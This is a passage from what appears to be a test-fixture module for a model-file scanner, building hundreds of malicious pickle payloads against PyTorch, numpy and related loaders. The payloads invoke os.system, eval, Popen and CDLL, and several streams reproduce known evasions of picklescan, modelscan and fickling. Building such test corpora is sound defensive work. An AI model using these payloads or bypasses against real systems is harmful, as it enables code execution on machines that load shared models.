    "Optional of an alias of an object": build_optional(call_global("types", "GenericAlias", SPACED, b")")),
    "a partial of a callback": build_deferred_call(
        stack_global("lightning.pytorch.callbacks.model_checkpoint", "ModelCheckpoint"), dirpath=short("a")
    ),
    "a partial of a configuration": build_deferred_call(
        stack_global("transformers.models.auto.configuration_auto", "AutoConfig")
    ),
    "a partial of a path": build_deferred_call(stack_global("pathlib", "Path"), short("a")),
    "a partial of a function, given an object": build_deferred_call(stack_global("numpy", "mean"), SPACED),
    "a partial of a function, given an object in a list": build_deferred_call(
        stack_global("numpy", "mean"), b"](" + SPACED + b"e"
    ),
    "a partial of a function, given a text": build_deferred_call(
        stack_global("torch.nn.init", "constant_"), val=short("PWNED")
    ),
    "a partial made with an object": build_partial(stack_global("numpy", "mean"), SPACED),
    "a partial of a module, given an object": build_deferred_call(
        stack_global("torch.nn.modules.container", "Sequential"), SPACED
    ),
    "a partial whose arguments are computed": call_global("functools", "partial", RELU)
    + b"("
    + RELU
    + SPACED
    + b"NNtb",
    "a defaultdict of a partial of a function": call_global(
        "collections",
        "defaultdict",
        build_deferred_call(stack_global("torch.nn.functional", "linear"), tensor(), tensor()),
    ),
    "a defaultdict of a partial of a module": call_global(
        "collections",
        "defaultdict",
        build_deferred_call(stack_global("torch.nn.modules.linear", "Linear"), number(2**20)),
    ),
    "a defaultdict of a partial of a list that becomes one of a function": call_global(
        "collections",
        "defaultdict",
        build_partial(stack_global("builtins", "list"))
        + b"("
        + stack_global("torch.nn.functional", "relu")
        + b")}Nt"
        + b"b",
    ),
    "a hook of a lazy module that is called": call_function(
        call_global(
            "builtins",
            "getattr",
            build_empty_object("torch.nn.modules.linear", "LazyLinear"),
            short("_infer_parameters"),
        ),
        b"N",
    ),
    "another method of a lazy module": call_global(
        "builtins", "getattr", build_empty_object("torch.nn.modules.linear", "LazyLinear"), short("apply")
    ),
    "a hook of a lazy module that has attributes": call_global(
        "builtins",
        "getattr",
        build_object(("torch.nn.modules.linear", "LazyLinear"), _infer_parameters=RELU),
        short("_infer_parameters"),
    ),
    "a hook of a module that is not lazy": call_global(
        "builtins", "getattr", build_empty_object("torch.nn.modules.linear", "Linear"), short("_infer_parameters")
    ),
    "a defaultdict of a callback": call_global(
        "collections", "defaultdict", stack_global("pytorch_lightning.callbacks.timer", "Timer")
    ),
    "a defaultdict of a configuration": call_global("collections", "defaultdict", stack_global(*CONFIG)),
    "other names for attributes, as arguments": stack_global(*CONFIG)
    + b")"
    + build_dict(attribute_map=build_dict(append=short("save_pretrained")))
    + b"\x92",
    "a function as a method of a namespace": build_object(("types", "SimpleNamespace"), copy=RELU),
    "a partial as a method of a namespace": build_object(("argparse", "Namespace"), items=build_deferred_call(RELU)),
    "a function in a configuration": build_object(CONFIG, to_json_string=RELU),
    "a partial among the maps of a ChainMap": build_chain_map(build_deferred_call(RELU)),
    "a function among the parts of a transform": build_object(
        ("torch.distributions.transforms", "ComposeTransform"), parts=b"](" + RELU + b"e"
    ),
    "a function as a method of an optimizer": build_object(("torch.optim.adam", "Adam"), step=RELU),
    "a function as a method of a parameter": call_global(
        "torch._utils", "_rebuild_parameter_with_state", tensor(), b"\x88", b"}", build_dict(numel=RELU)
    ),
    "a function as a module": build_object(
        ("torch.nn.modules.container", "Sequential"), _parameters=b"}", _modules=build_dict(a=RELU)
    ),
    "a function as forward": build_object(
        ("torch.nn.modules.linear", "Identity"), _parameters=b"}", _modules=b"}", forward=RELU
    ),
    "a module that is none": build_object(("torch.nn.modules.linear", "Identity"), training=b"\x88"),
    "an array's interface": build_object(
        ("types", "SimpleNamespace"), __array_interface__=build_dict(data=number(8) + b"\x89\x86")
    ),
    # 2 GB for each element; the state need not contain this size
    "a type of numpy by a list": call_function(
        SCALAR, call_global("numpy", "dtype", b"](" + text("a") + text("V2000000000") + b"\x86e")
    ),
    "a type of numpy by text": call_function(SCALAR, call_global("numpy", "dtype", text("2000000000i1"))),
    "a type of numpy by its fields": call_global("numpy", "dtype", text("i4,V2000000000")),
    # codecs written in Python that take a time quadratic in the text
    "text in Punycode": call_global("_codecs", "encode", text("\u3400" * 99), short("punycode")),
    "text decoded from Punycode": call_global("builtins", "str", short(b"a-b"), short("punycode")),
    "bytes of text by a keyword": stack_global("builtins", "bytes")
    + text("\u3400")
    + b"\x85"
    + build_dict(encoding=short("idna"))
    + b"\x92",
    "bytes of numpy in Punycode": call_global("numpy", "bytes_", text("\u3400"), short("punycode")),
    "bytes of numpy in Punycode by NEWOBJ": stack_global("numpy", "bytes_")
    + text("\u3400")
    + short("idna")
    + b"\x86\x81",
    "a version in Punycode": call_global("torch.torch_version", "TorchVersion", short(b"a-b"), short("punycode")),
    "text by a codec that is computed": call_global("_codecs", "encode", text("a"), COMPUTED),
    # uuid.UUID calls `replace` of its argument
    "a UUID of an object": call_global("uuid", "UUID", build_object(("types", "SimpleNamespace"), replace=RELU)),
    # the codec `idna` calls `encode` of its argument
    "an object encoded": call_global(
        "_codecs", "encode", build_object(("types", "SimpleNamespace"), encode=RELU), short("idna")
    ),
    # fractions.Fraction calls `as_integer_ratio` from Python 3.14 on
    "a fraction of an object": call_global("fractions", "Fraction", SPACED),
    "a fraction of an object by NEWOBJ": stack_global("fractions", "Fraction") + SPACED + b"\x85\x81",
    "a fraction of an object by its __new__": call_global(
        "copyreg", "__newobj__", stack_global("fractions", "Fraction"), SPACED
    ),
    # the tensor calls `size` of the wrapped object
    "a tensor of an object": call_global("torch.distributed._functional_collectives", "AsyncCollectiveTensor", SPACED),
    "an object through an identity": call_global("uuid", "UUID", call_function(IDENTITY, SPACED, short(""))),
    "an object through numpy": call_global("uuid", "UUID", call_function(SCALAR, OBJECT, SPACED)),
    "an object in a sequence": stack_global("torch.nn.utils.rnn", "PackedSequence") + b"(" + SPACED + b"NNNt\x81",
    "a state of the process, made": call_global("accelerate.state", "PartialState", b"\x88"),
    "a state of the process, made without arguments": call_global("accelerate.state", "AcceleratorState"),
    "a storage changed": STORAGE_ID + build_dict(_untyped_storage=b"N") + b"b",
    "items of a storage": STORAGE_ID + b"K\x00K\x01s",
    "a class of TorchScript": call_global("__torch__.evil", "Run"),
}

RANDOM = "numpy.random._pickle"
DEEPSPEED = stack_global("accelerate.utils.dataclasses", "DeepSpeedPlugin")
HF_CONFIG = stack_global("transformers.integrations.deepspeed", "HfDeepSpeedConfig")
STATE, GENERATOR, BITS = (
    stack_global(RANDOM, name) for name in ("__randomstate_ctor", "__generator_ctor", "__bit_generator_ctor")
)
FROM_TYPE, TENSOR = stack_global("torch._tensor", "_rebuild_from_type_v2"), stack_global("torch", "Tensor")
# Clean functions that call a class passed as argument, alone and through each other.
INDIRECT = {
    # numpy reads the state through a null pointer
    "a bit generator without its state": stack_global("numpy.random._pcg64", "PCG64") + b")\x81",
    "a bit generator without its state as a copy makes it": call_global(
        "copyreg", "__newobj__", stack_global("numpy.random._philox", "Philox")
    ),
    "a configuration called by a random state": call_function(STATE, b"}", HF_CONFIG),
    "a configuration called by a random state, given alone": call_function(STATE, HF_CONFIG),
    "a configuration called by a random state through the default": call_function(STATE, DEEPSPEED, BITS),
    "a configuration called by a random state through another": call_function(STATE, DEEPSPEED, STATE),
    "a configuration called by a generator": call_function(GENERATOR, b"}", HF_CONFIG),
    "a configuration called by a generator, given alone": call_function(GENERATOR, DEEPSPEED),
    "a configuration called by a generator as a copy makes it": stack_global("copyreg", "__newobj__")
    + GENERATOR
    + DEEPSPEED
    + b"\x86R",
    "a plugin called by the bits of a generator": call_function(BITS, DEEPSPEED),
    "a module called by the bits of a generator": call_function(
        BITS, stack_global("torch.nn.modules.linear", "Identity")
    ),
    "a path called by the bits of a generator": call_function(BITS, stack_global("pathlib", "PosixPath")),
    "a state of the process called by the bits of a generator": call_function(
        BITS, stack_global("accelerate.state", "PartialState")
    ),
    "a configuration as a masked array": call_global(
        "numpy.ma.core", "_mareconstruct", DEEPSPEED, stack_global("numpy", "ndarray"), b"K\x00\x85", short("b")
    ),
    "a configuration as an array": call_global(
        "numpy.core.multiarray", "_reconstruct", DEEPSPEED, b"K\x00\x85", short("b")
    ),
    "a configuration as the seed of a generator": call_global(
        "numpy.random.bit_generator", "__pyx_unpickle_SeedSequence", HF_CONFIG, number(1), b"N"
    ),
    "an object as the state of a list": call_global(
        "copyreg",
        "_reconstructor",
        stack_global("collections", "UserList"),
        stack_global("builtins", "list"),
        stack_global("types", "SimpleNamespace") + b")\x81",
    ),
    "3,000 tensors rebuilt one by another": FROM_TYPE
    + (b"(" + FROM_TYPE + TENSOR) * 3001
    + b")Nt"
    + b"Nt" * 3000
    + b"R",
}

PRINT = stack_global("builtins", "print")
FUSED = ("torch.ao.nn.intrinsic.modules.fused", "_FusedModule")
IDENTITY_MODULE = ("torch.nn.modules.linear", "Identity")
SEQUENTIAL = ("torch.nn.modules.container", "Sequential")
PARALLEL = ("torch.nn.parallel.data_parallel", "DataParallel")
HOOK_DICTS = (
    *("_forward_hooks", "_forward_pre_hooks", "_backward_hooks", "_backward_pre_hooks"),
    *("_state_dict_hooks", "_state_dict_pre_hooks", "_load_state_dict_pre_hooks", "_load_state_dict_post_hooks"),
)
MODULE_PARTS = {"_parameters": b"}", "_buffers": b"}", "_modules": b"}"} | dict.fromkeys(HOOK_DICTS, b"}")


def build_module(holder, **values):
    """A module of the given class with the dicts of every module, and the given attributes."""
    return build_object(holder, **(MODULE_PARTS | values))


def build_pairs(**values):
    """A list of pairs; `dict.update` accepts pairs as well as a dict."""
    return b"](" + b"".join(short(name) + value + b"\x86" for name, value in values.items()) + b"e"


def build_ordered_dict(key, value):
    """An OrderedDict with a single item."""
    return call_global("collections", "OrderedDict") + key + value + b"s"


def build_calling_optimizer(function, state=build_dict):
    """An optimizer that calls the function for each parameter on load."""
    groups = b"]" + build_dict(params=b"]" + number(0) + b"a") + b"a"
    return (
        build_empty_object("torch.optim.adadelta", "Adadelta")
        + state(defaults=b"}", param_groups=groups, state=function)
        + b"b"
    )


def wrap_function(function):
    """A DataParallel without devices, with the function in place of its module."""
    return build_module(PARALLEL, device_ids=b"]", module=function)


def hide_get_method(function):
    """An OrderedDict with an attribute that hides the method `get`."""
    return call_global("collections", "OrderedDict") + build_dict(get=function) + b"b"


def build_newobj_ex(function, *args, **kwargs):
    """NEWOBJ_EX."""
    return function + b"(" + b"".join(args) + b"t" + build_dict(**kwargs) + b"\x92"


def build_mapping(key, value):
    """A dict with a single item."""
    return b"}" + key + value + b"s"


INTERFACE = build_dict(
    data=number(0x4141414141) + b"\x89\x86", shape=numbers(1), typestr=short("<u8"), version=number(3)
)
MASKED = stack_global("numpy.ma.core", "MaskedArray")
STORAGE, FLOATS = stack_global("torch.storage", "UntypedStorage"), stack_global("torch", "FloatTensor")
NEWOBJ_EX = stack_global("copyreg", "__newobj_ex__")
DUNDER = "__array_interface__"
CODED = call_global("numpy", "dtype", short("U9"), b"\x89", b"\x88")
#: Texts built by calls: a lookup of the name finds a key of each kind.
TEXTS = {
    "str": call_global("builtins", "str", short("__array__")),
    "str of numpy": call_global("numpy", "str_", short("__array__")),
    "UserString": build_object(("collections", "UserString"), data=short("__array__")),
    "a version": stack_global("torch.torch_version", "TorchVersion") + short("__array__") + b"\x85\x81",
    "an identity": call_global("torch.jit._pickle", "restore_type_tag", short("__array__"), short("str")),
    "a scalar": call_function(SCALAR, CODED, short("__array__".encode("utf-32-le"))),
}
# States, arguments and attributes of another kind than picklers write, or at another time.
STATES = {
    # nn.Module, Optimizer and GradScaler update their dict by the state
    "an optimizer of pairs, which calls a method of a module of pairs": build_calling_optimizer(
        build_empty_object(*FUSED) + build_pairs(get=PRINT, **MODULE_PARTS) + b"b", build_pairs
    ),
    "a module of pairs": build_empty_object(*FUSED) + build_pairs(forward=PRINT, **MODULE_PARTS) + b"b",
    "a module of a tuple of pairs": build_empty_object(*FUSED)
    + call_global("builtins", "tuple", build_pairs(forward=PRINT, **MODULE_PARTS))
    + b"b",
    "a module of two pairs": build_empty_object(*FUSED)
    + b"("
    + short("forward")
    + PRINT
    + b"\x86"
    + short("_modules")
    + b"}\x86tb",
    "a module of a set of pairs": build_empty_object(*FUSED) + b"(" + short("forward") + PRINT + b"\x86\x91b",
    "a scaler of pairs": build_empty_object("torch.amp.grad_scaler", "GradScaler")
    + build_pairs(state_dict=PRINT)
    + b"b",
    "a scheduler of pairs": build_empty_object("torch.optim.lr_scheduler", "StepLR") + build_pairs(step=PRINT) + b"b",
    "an average whose module is a function": build_object(
        ("torch.optim.swa_utils", "AveragedModel"), **MODULE_PARTS, module=PRINT
    ),
    # not only functions can be called
    "an optimizer that calls a DataParallel": build_calling_optimizer(hide_get_method(wrap_function(PRINT))),
    "a DataParallel as forward": build_module(IDENTITY_MODULE, forward=wrap_function(build_module(IDENTITY_MODULE))),
    "a DistributedDataParallel as a method": hide_get_method(
        build_object(("torch.nn.parallel.distributed", "DistributedDataParallel"), **MODULE_PARTS)
    ),
    "a constraint as a method": hide_get_method(
        build_empty_object("torch.distributions.constraints", "_DependentProperty")
    ),
    "a list of parametrizations as a method": hide_get_method(
        build_object(("torch.nn.utils.parametrize", "ParametrizationList"), **MODULE_PARTS)
    ),
    "a class of containers as forward": build_module(IDENTITY_MODULE, forward=stack_global("builtins", "list")),
    "what calls anything as forward": build_module(IDENTITY_MODULE, forward=FROM_TYPE),
    **{
        f"a function as {method} of a module": build_module(IDENTITY_MODULE, **{method: PRINT})
        for method in ("state_dict", "to", "eval", "train", "initialize_parameters", "module", "__call__")
    },
    **{
        f"a function among {name}": build_module(IDENTITY_MODULE, **{name: build_mapping(number(0), PRINT)})
        for name in HOOK_DICTS
    },
    "a function among ordered hooks": build_module(
        IDENTITY_MODULE, _forward_hooks=build_ordered_dict(number(0), PRINT)
    ),
    "an identity among hooks": build_module(IDENTITY_MODULE, _forward_pre_hooks=build_mapping(number(0), IDENTITY)),
    "a partial among hooks": build_module(
        IDENTITY_MODULE, _forward_hooks=build_mapping(number(0), build_deferred_call(RELU))
    ),
    "a module among hooks": build_module(
        IDENTITY_MODULE, _forward_hooks=build_mapping(number(0), build_module(IDENTITY_MODULE))
    ),
    "hooks that are no dict": build_module(
        IDENTITY_MODULE, _forward_hooks=build_object(("collections", "UserDict"), data=b"}")
    ),
    "hooks of a tensor": call_global(
        "torch._utils", "_rebuild_parameter", tensor(), b"\x88", build_ordered_dict(number(0), PRINT)
    ),
    "modules that are ordered": build_module(SEQUENTIAL, _modules=build_ordered_dict(short("0"), PRINT)),
    "modules of pairs": build_module(
        SEQUENTIAL, _modules=call_global("collections", "OrderedDict", build_pairs(a=PRINT))
    ),
    "modules of pairs that are given others": build_module(
        SEQUENTIAL, _modules=call_global("collections", "OrderedDict", build_pairs(a=PRINT)) + short("a") + b"Ns"
    ),
    "a partial among modules": build_module(SEQUENTIAL, _modules=build_dict(a=build_deferred_call(RELU))),
    "modules that are computed": build_module(
        SEQUENTIAL,
        _modules=build_object(
            ("torch.utils.data.dataset", "Subset"), dataset=build_dict(k=PRINT), indices=build_dict(a=short("k"))
        ),
    ),
    # torch and numpy read the state before its last change
    "a state that is changed afterwards": build_calling_optimizer(hide_get_method(wrap_function(PRINT)))[:-1]
    + b"q\x07bh\x07"
    + short("state")
    + b"}s0",
    "an object for a state that is set again": build_calling_optimizer(build_module(FUSED))[:-1]
    + b"q\x07bh\x07"
    + short("state")
    + b"}s0",
    "a method that is set again": build_empty_object(*IDENTITY_MODULE)
    + build_dict(**MODULE_PARTS, forward=PRINT)
    + b"q\x07bh\x07"
    + short("forward")
    + b"Ns0",
    "a module that is set again": build_object(
        SEQUENTIAL, **MODULE_PARTS | {"_modules": build_dict(a=PRINT) + b"q\x07"}
    )
    + b"h\x07"
    + short("a")
    + b"Ns",
    "a module of an ordered dict that is set again": build_object(
        SEQUENTIAL, **MODULE_PARTS | {"_modules": build_ordered_dict(short("a"), PRINT) + b"q\x07"}
    )
    + b"h\x07"
    + short("a")
    + b"Ns",
    "a dict of a module that is set later": build_empty_object(*IDENTITY_MODULE)
    + b"}q\x07bh\x07("
    + short("_parameters")
    + b"}"
    + short("_modules")
    + b"}u",
    "an element of a list that is set again": b"]("
    + build_module(IDENTITY_MODULE)
    + b"eq\x07"
    + number(0)
    + PRINT
    + b"s",
    "an element of a deque that is set": call_global("collections", "deque", b"](" + number(1) + b"e")
    + number(0)
    + PRINT
    + b"s",
    # code looks up the attributes below
    "modules as buffers": build_module(IDENTITY_MODULE, _buffers=build_dict(a=build_module(IDENTITY_MODULE))),
    "a module with an interface among its buffers": call_function(
        MASKED, b"]]" + build_module(IDENTITY_MODULE, _buffers=build_dict(**{DUNDER: INTERFACE})) + b"aa"
    ),
    "a module with an interface among its parameters": build_module(
        IDENTITY_MODULE, _parameters=build_dict(**{DUNDER: INTERFACE})
    ),
    "a module with an interface among its modules": build_module(
        IDENTITY_MODULE, _modules=build_dict(**{DUNDER: build_module(IDENTITY_MODULE)})
    ),
    "a module in a list in a list": call_function(MASKED, b"]]" + build_module(IDENTITY_MODULE) + b"aa"),
    "a module in a list that a call makes": call_function(
        MASKED, call_global("builtins", "list", b"]" + build_module(IDENTITY_MODULE) + b"a")
    ),
    "a module in a deque": call_function(
        MASKED, call_global("collections", "deque", b"]") + build_module(IDENTITY_MODULE) + b"a"
    ),
    "a dict of attributes with an interface": build_empty_object("lightning.fabric.utilities.data", "AttributeDict")
    + short(DUNDER)
    + INTERFACE
    + b"s",
    **{
        f"a buffer by {name}": build_module(IDENTITY_MODULE, _buffers=build_mapping(text, tensor()))
        for name, text in TEXTS.items()
    },
    **{f"a function by {name}": build_mapping(text, PRINT) for name, text in TEXTS.items()},
    "a function by a text in a pair": TEXTS["str"] + PRINT + b"\x86",
    # keyword arguments
    "a storage by an allocator": build_newobj_ex(STORAGE, number(8), allocator=number(0x4141414141)),
    "a storage by an allocator in an ordered dict": STORAGE
    + number(8)
    + b"\x85"
    + build_ordered_dict(short("allocator"), number(0x4141414141))
    + b"\x92",
    "a tensor by its address": build_newobj_ex(stack_global("torch", "Tensor"), cdata=number(0x4141414141)),
    "a tensor by its address through copyreg": call_function(
        NEWOBJ_EX, stack_global("torch", "Tensor"), b")", build_dict(cdata=number(0x4141414141))
    ),
    "a storage by an allocator through copyreg and an ordered dict": call_function(
        NEWOBJ_EX, STORAGE, number(8) + b"\x85", build_ordered_dict(short("allocator"), number(0x4141414141))
    ),
    "bytes by their source": build_newobj_ex(stack_global("builtins", "bytes"), source=number(2**33)),
    "a tensor by its size": build_newobj_ex(FLOATS, size=numbers(2**31)),
    "a path by keywords": build_newobj_ex(stack_global("datetime", "date"), year=number(1)),
}
OLD = b"\x80\x02"
# Names of Python 2 in later protocols, in which Python imports a file of that name.
OLD_NAMES = {
    "a module of Python 2": b"\x80\x03cUserDict\nUserDict\n)\x81.",
    "a module of Python 2 by STACK_GLOBAL": four(stack_global("copy_reg", "_reconstructor")),
    "a module of Python 2 after the protocol": OLD
    + global_name("UserDict", "UserDict")
    + b"0\x80\x03"
    + global_name("UserDict", "UserDict")
    + b".",
}


#: A module whose state torch returns and statecli reads as a storage.
TORN = build_empty_object(*FUSED) + build_persistent_id(build_dict(**MODULE_PARTS, get=PRINT), short("")) + b"b"
# Persistent ids that torch does not write, in data.pkl and in the pickle of a tar.
IDS = {
    "a state": build_calling_optimizer(TORN),
    "an id in an id": build_empty_object(*FUSED)
    + build_persistent_id(build_persistent_id(build_dict(forward=PRINT), short("")), short(""))
    + b"b",
    "a number": call_global("builtins", "bytearray", build_persistent_id(number(2**33), short(""))),
    "a list": b"](" + PRINT + b"eQ",
    "a class with an object for its source": build_persistent_id(stack_global(*IDENTITY_MODULE), short(""), TORN),
    "a module that is an object": build_persistent_id(short("module"), build_dict(a=PRINT), short(""), short("")),
    "a storage without a type": build_persistent_id(
        short("storage"), build_dict(a=PRINT), short("0"), short("cpu"), number(4)
    ),
}

# Clean names put to other uses than data. Our own payloads; no advisory describes them.
MODULE = stack_global("torch.nn.modules.linear", "Identity") + b")\x81"
FLOWS = {
    "a tensor rebuilt from a module, which as_subclass makes the class whose attributes the state sets": pickle_call(
        "torch._tensor",
        "_rebuild_from_type_v2",
        stack_global("torch._utils", "_rebuild_parameter_with_state"),
        stack_global("torch", "Tensor"),
        b"(" + MODULE + b"\x89})t",
        b"}" + short("tolist") + MODULE + b"s",
    ),
    "an alias that hands its state on to a function": four(
        call_global("types", "GenericAlias", stack_global("torch.nn.functional", "dropout"), b")")
        + b"}"
        + short("inplace")
        + b"\x88sb"
    ),
    "a namespace whose extend is a function, and that is given items": four(
        build_namespace("extend", stack_global("torch.nn.functional", "relu")) + b"(K\x01e"
    ),
    "getattr by partial, beside one that spells a name": four(
        SPELLED + b"0" + call_function(build_partial(NEVER, stack_global("logging", "getLogger"), short("__globals__")))
    ),
    "getattr as __new__": four(
        SPELLED
        + b"0"
        + call_global(
            "copyreg",
            "_reconstructor",
            stack_global("logging", "getLogger"),
            build_namespace("__new__", NEVER),
            short("__globals__"),
        )
    ),
    "getattr in a list that is given": four(SPELLED + b"0" + call_global("builtins", "list", b"](" + NEVER + b"e")),
    "getattr in an item set and set again": four(SPELLED + b"0}" + short("a") + NEVER + b"s\x94" + short("a") + b"Ns"),
    "a metaclass that a module of torch imports": pickle_call(
        "torch.ao.quantization.observer", "ABCMeta", short("X"), b")", b"}"
    ),
    "a partial that is called": four(call_function(build_partial(stack_global("builtins", "dict")))),
    "a partial of a partial": four(build_partial(build_partial(stack_global("builtins", "dict")))),
    "a partial whose function is set": four(
        build_partial(stack_global("builtins", "dict")) + b"(" + stack_global("copyreg", "_reconstructor") + b")}Ntb"
    ),
    "a partial of what calls anything": four(build_partial(stack_global("torch._tensor", "_rebuild_from_type_v2"))),
    "a partial in the place of __setstate__": four(
        build_namespace("__setstate__", build_partial(stack_global("builtins", "dict")))
    ),
    "_rebuild_from_type_v2 of another function": pickle_call(
        "torch._tensor",
        "_rebuild_from_type_v2",
        stack_global("pathlib", "Path"),
        stack_global("torch", "Tensor"),
        short("a") + b"\x85",
        b"N",
    ),
    "a hook that is called": four(call_function(SPECTRAL, stack_global("torch.nn.modules.linear", "Linear"), b"N")),
    "a hook that an optimizer would call": four(
        stack_global("torch.optim.adam", "Adam") + b")\x81}" + short("state") + build_namespace("get", SPECTRAL) + b"sb"
    ),
    "a module made with arguments": pickle_call("torch.nn.modules.linear", "Linear", number(1), number(1)),
    "a configuration that makes its folder": pickle_call("transformers.training_args", "TrainingArguments", short("a")),
    "a norm that is called": pickle_call("torch._C._linalg", "linalg_norm", tensor()),
    "a name among the norms that is none": four(stack_global("torch._C._linalg", "os.system")),
    "what a GradScaler makes its values with, called": pickle_call(
        "torch.amp.grad_scaler", "_refresh_per_optimizer_state"
    ),
    "a loss scaler made with arguments": pickle_call("deepspeed.runtime.fp16.loss_scaler", "LossScaler", number(1)),
    "a stage of ZeRO changed": four(
        call_global("deepspeed.runtime.zero.config", "ZeroStageEnum", number(1)) + b"}" + short("a") + b"Nsb"
    ),
    "a version made of an object": pickle_call(
        "torch.torch_version", "TorchVersion", stack_global("torch.nn.modules.container", "Sequential") + b")\x81"
    ),
    "an activation that is called": pickle_call("torch.nn.functional", "relu", number(1)),
    "a module changed through an identity": four(
        call_function(IDENTITY, stack_global("torch.nn.modules.linear", "F"), short(""))
        + b"}"
        + short("linear")
        + b"Nsb"
    ),
    "a class changed through an identity": four(
        call_function(IDENTITY, stack_global("torch.nn.modules.linear", "Linear"), short(""))
        + b"}"
        + short("forward")
        + b"Nsb"
    ),
    "the logger of the process": four(call_global("logging", "getLogger") + b"}" + short("disabled") + b"\x88sb"),
    "a member of an enumeration changed": four(call_global("uuid", "SafeUUID", number(0)) + b"}" + short("a") + b"Nsb"),
    "Popen by another module": pickle_call(
        "torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler", "Popen", short("true")
    ),
    "Popen by somebody's module": pickle_call("my.tools", "subprocess.Popen", short("true")),
    "CDLL by another module": four(stack_global("torch._inductor.codecache", "CDLL")),
    "PyTorchFileWriter": pickle_call("torch._C", "PyTorchFileWriter", short("a")),
    "PackageImporter": pickle_call("torch.package", "PackageImporter", short("a")),
    "a class of torch on no list": pickle_call("torch.optim.swa_utils", "Module"),
    "type() of something": pickle_call("builtins", "type", short("X"), b")", b"}"),
    "operator.getitem of something": pickle_call("_operator", "getitem", b"}", short("a")),
    **{name: four(body) for name, body in (METHODS | HIDDEN | INDIRECT | STATES).items()},
    **OLD_NAMES,
}

# Streams of opcodes that a scanner read differently from pickle.
STREAMS = {
    # picklescan issue 22: memo entries out of order
    "memo out of order": b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V"
    + TOUCH.encode()
    + b"\ntR.",
    # picklescan issue 14: PUT and MEMOIZE mixed
    "PUT and MEMOIZE": four(
        short("os")
        + b"q\x00"
        + short("system")
        + b"q\x01"
        + short("torch._utils")
        + b"\x94"
        + short("_rebuild_tensor_v2")
        + b"\x940000h\x00h\x01\x93("
        + short(TOUCH)
        + b"tR"
    ),
    # modelscan issue 85: the module's and the function's name kept as attributes of a function
    "BUILD on a function": b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\np0\n"
    b"cnumpy\nprod.b\np1\n00g0\ng1\n\x93V" + TOUCH.encode() + b"\n\x85R.",
    # GHSA-9gvj-pp9x-gcfr: names as STRING
    "names as STRING": b"S'os'\nS'system'\n\x93S'" + TOUCH.encode() + b"'\n\x85R.",
    # picklescan: a call, and then a memo entry that is not there
    "KeyError behind the call": four(
        global_name("os", "system") + text(TOUCH) + b"\x85R0" + short("os") + b"\x94h\x03h\x00\x93"
    ),
    # picklescan: a call, and then a global named by a number
    "type confusion behind the call": four(
        global_name("os", "system")
        + text(TOUCH)
        + b"\x85R0"
        + number(42)
        + b"\x94"
        + short("os")
        + b"\x94h\x00h\x01\x93"
    ),
    # nullifAI: it runs, and then breaks off
    "a broken tail": build_pickle(SYSTEM)[:-1] + b"\xff\xff",
    # picklescan's broken_model: a string longer than the file
    "a string past the end": b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntRX\xff\xff\xff\x00.",
    # picklescan: bytes behind the STOP that are no opcodes
    "junk behind the STOP": build_pickle(SYSTEM) + b"\n\n\t\t",
    # picklescan's malicious6: the second pickle of the file
    "a second pickle": build_pickle(b"](" + text("a") + b"e") + build_pickle(SYSTEM),
    # a call by INST
    "INST": b"(S'" + CODE.replace("'", '"').encode() + b"'\ni__builtin__\neval\n.",
    "NEWOBJ": four(stack_global("os", "system") + short(TOUCH) + b"\x85\x81"),
    "NEWOBJ_EX": four(stack_global("os", "system") + short(TOUCH) + b"\x85}\x92"),
    # after the call, a name of no module, so that the whole stream passes for text
    "an odd name behind the call": b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR0c!x\n!y\n.",
    "an odd name that is no text": b"cos\nsystem\n(V" + TOUCH.encode() + b"\ntR0c\xff\n\xff\n.",
    "an odd name before the call": b"c!x\n!y\n0cos\nsystem\n(V" + TOUCH.encode() + b"\ntR.",
    # an opcode of no honest pickle, to stop the scanner, and then the call
    "odd arguments": four(stack_global("builtins", "list") + call_global("builtins", "tuple", b"]") + b"R0" + SYSTEM),
    "a call of a storage": four(b"NQ)R0" + SYSTEM),
    "BUILD on a class": four(
        stack_global("collections", "OrderedDict") + b"N}" + short("a") + number(1) + b"s\x86b" + SYSTEM
    ),
    "SETITEM on a class": four(stack_global("collections", "OrderedDict") + number(1) + number(2) + b"s0" + SYSTEM),
    "APPEND on a tuple": four(b")" + number(2) + b"a0" + SYSTEM),
    "hexadecimal": b"\x80\x02I0x10\n0" + SYSTEM + b".",
    "an extension code": four(b"\x82\x07" + short(TOUCH) + b"\x85R"),
    "a persistent class": four(
        b"(" + short("module") + stack_global("os", "system") + b"NNtQ" + short(TOUCH) + b"\x85R"
    ),
    "a call inside a tensor": build_pickle(
        b"ctorch._utils\n_rebuild_tensor_v2\n(" + SYSTEM + number(0) + b"))\x89ccollections\nOrderedDict\n)RtR"
    ),
}


def build_archive(pickle, **fields):
    """An ordinary archive with the given pickle as data.pkl."""
    members = records(pickle)
    for name, value in fields.items():
        setattr(members[0], name, value)
    return build(members)


EVIL = state_dict(w=tensor(), x=SYSTEM)


def rename_record(data, old, new):
    """Change the first of the two places with the name of a record: the local header."""
    assert data.count(old) == 2
    return data.replace(old, new, 1)


def build_misleading():
    """From fickling and modelscan: a bad record before the pickle stopped their reading of the archive."""
    bad_record = Member("archive/first", b"abc", local_signature=b"XXXX")
    return build([bad_record, *records(EVIL)])


NUMPY_HEADER = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
ARRAY = b"\x93NUMPY\1\0" + struct.pack("<H", len(NUMPY_HEADER)) + NUMPY_HEADER + build_pickle(SYSTEM)

MAGIC = b"\x80\x02N0" + number(0x1950A86A20F9469CFC6C) + b"."


#: Pickles that torch takes for the magic number, because their value is equal to it.
EQUAL_NUMBERS = {
    "a decimal": pickle.dumps(decimal.Decimal(0x1950A86A20F9469CFC6C), 2),
    "a fraction": pickle.dumps(fractions.Fraction(0x1950A86A20F9469CFC6C), 2),
    "a number below another": MAGIC[2:],
}


def build_numpy_file(header, pickle):
    """An array file with the given header and pickle."""
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + pickle


HEADERS = {
    "double quotes": b'{"descr": "|O", "fortran_order": False, "shape": (1,), }',
    "native": b"{'descr': '=O', 'fortran_order': False, 'shape': (1,), }",
    "by name": b"{'descr': 'object', 'fortran_order': False, 'shape': (1,), }",
